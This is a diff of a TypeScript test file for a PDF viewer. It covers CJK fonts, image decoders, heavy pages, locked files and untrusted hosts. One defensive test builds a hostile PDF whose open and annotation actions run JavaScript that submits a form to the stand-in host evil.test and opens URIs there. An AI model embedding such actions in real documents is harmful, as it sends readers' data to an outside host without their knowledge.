@@ -1,9 +1,8 @@
 import type { Page, Route } from "playwright-core";
 import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
 import { type Office, openOffice } from "./support/office.ts";
-import { asData, pdfOf } from "./support/pdf.ts";
+import { asData, pdfOf, streamOf } from "./support/pdf.ts";
 import { ItemSeats } from "./support/items.ts";
-import type { SeatOptions } from "./support/seat.ts";
 import { faultsOn } from "./support/sound.ts";
 
 let office: Office;
@@ -18,7 +17,11 @@ afterEach(async () => {
 afterAll(() => office.stop());
 
 /** Files of the host that the flow allows, and everything that is asked of any other host. */
-async function open(document: unknown, files: Readonly<Record<string, Buffer>> = {}, options?: SeatOptions) {
+async function open(
+  document: unknown,
+  files: Readonly<Record<string, Buffer>> = {},
+  listen: (page: Page) => unknown = () => undefined,
+) {
   await office.submit({ title: "A document", document });
   const asked: string[] = [];
   const answer = (route: Route): Promise<void> => {
@@ -29,8 +32,11 @@ async function open(document: unknown, files: Readonly<Record<string, Buffer>> =
       ? route.abort()
       : route.fulfill({ body, contentType: "application/pdf", headers: { "access-control-allow-origin": "*" } });
   };
-  const before = (page: Page): Promise<unknown> => page.route(/^https:\/\/[^/]*\.(example|test)\//, answer);
-  return { page: await seats.take(office, "A document", { before, ...options }), asked };
+  const before = async (page: Page): Promise<void> => {
+    listen(page);
+    await page.route(/^https:\/\/[^/]*\.(example|test)\//, answer);
+  };
+  return { page: await seats.take(office, "A document", { before }), asked };
 }
 
 const pages = (page: Page) => page.getByRole("group", { name: "Document" });
@@ -71,7 +77,7 @@ test("a PDF of 100 pages shows its first page; keys turn and zoom, and only what
   expect(await faultsOn(page)).toEqual([]);
 });
 
-test("a PDF that runs scripts, calls others and draws without end does none of it; its text is there", async () => {
+test("a PDF with scripts and links does nothing of what they say; its text is there", async () => {
   const script = "app.alert('harmed'); this.submitForm('https://evil.test/form');";
   const catalogue = `/OpenAction<</S/JavaScript/JS(${script})>>/AA<</WC<</S/URI/URI(https://evil.test/closed)>>>>`;
   const page = `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 900 900]/A<</S/URI/URI(https://evil.test/link)>>>>]/AA<</O<</S/JavaScript/JS(${script})>>>>`;
@@ -94,7 +100,38 @@ test("a page of a thousand kilometres says that it cannot be drawn, a huge squar
   expect(pixels).toBeLessThan(8_100_000);
 });
 
-test("keys are taken while a page is drawn that never ends", async () => {
+test("what some PDFs need beside them comes from the page itself: East Asian characters, decoders of pictures", async () => {
+  const parts: string[] = [];
+  const font =
+    "<</Type/Font/Subtype/Type0/BaseFont/SimSun/Encoding/UniGB-UCS2-H/DescendantFonts[<</Type/Font/Subtype/CIDFontType0/BaseFont/SimSun/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>/FontDescriptor<</Type/FontDescriptor/FontName/SimSun/Flags 4>>>>]>>";
+  // The size of a picture of 8 by 8, and nothing of the picture: its decoder is asked for.
+  const size = `\xFF\x51${"\0".repeat(4)}\0\0\0\x08\0\0\0\x08${"\0".repeat(24)}\0\x01${"\0".repeat(20)}`;
+  const image = (filter: string): string =>
+    streamOf(size, `/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/${filter}`);
+  const pdf = pdfOf(1, {
+    resources: "/Font<</F 3 0 R/G 6 0 R>>/XObject<</J 7 0 R/K 8 0 R>>",
+    objects: [font, image("JPXDecode"), image("JBIG2Decode")],
+    drawn: "BT /G 24 Tf 40 60 Td <4F60597D> Tj ET q 90 0 0 90 300 60 cm /J Do Q q 90 0 0 90 400 60 cm /K Do Q",
+  });
+  const { page } = await open("https://files.example/parts.pdf", { "parts.pdf": pdf }, (own) =>
+    own.on("response", (response) => {
+      const [, part] = /assets\/pdf-[\d-]+\/(.*)$/u.exec(response.url()) ?? [];
+      if (part !== undefined && response.ok()) parts.push(part);
+    }),
+  );
+  await page.getByText("你好").waitFor({ state: "attached" });
+  await expect
+    .poll(() => parts)
+    .toEqual(
+      expect.arrayContaining([
+        "cmaps/UniGB-UCS2-H.bcmap",
+        "wasm/openjpeg_nowasm_fallback.js",
+        "wasm/jbig2_nowasm_fallback.js",
+      ]),
+    );
+});
+
+test("keys are taken while a heavy page is drawn", async () => {
   const circles = Array.from({ length: 400_000 }, (_, at) => `${at % 600} ${at % 800} 300 300 re S`).join("\n");
   const { page } = await open("https://files.example/slow.pdf", { "slow.pdf": pdfOf(3, { drawn: circles }) });
   await page.getByRole("group", { name: "Page 1 of 3" }).waitFor();
@@ -114,9 +151,13 @@ test("keys are taken while a page is drawn that never ends", async () => {
   expect(longest).toBeLessThan(1_000);
 });
 
+/** Of a password that nobody knows. */
+const LOCK = `/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/O(${"o".repeat(32)})/U(${"u".repeat(32)})/P -4>>`;
+
 test.each([
   ["no PDF", asData(Buffer.from("<html>")), "This is no PDF that can be read"],
   ["cut off", asData(pdfOf(3).subarray(0, 300)), "This is no PDF that can be read"],
+  ["locked", asData(pdfOf(1, { trailer: LOCK })), "The PDF cannot be shown: it asks for a password."],
   ["another type", "data:text/html,hello", "There is no PDF here that can be shown."],
   ["a number", 7, "There is no PDF here that can be shown."],
   ["another host", "https://evil.test/a.pdf", "this flow does not allow files from this host"],
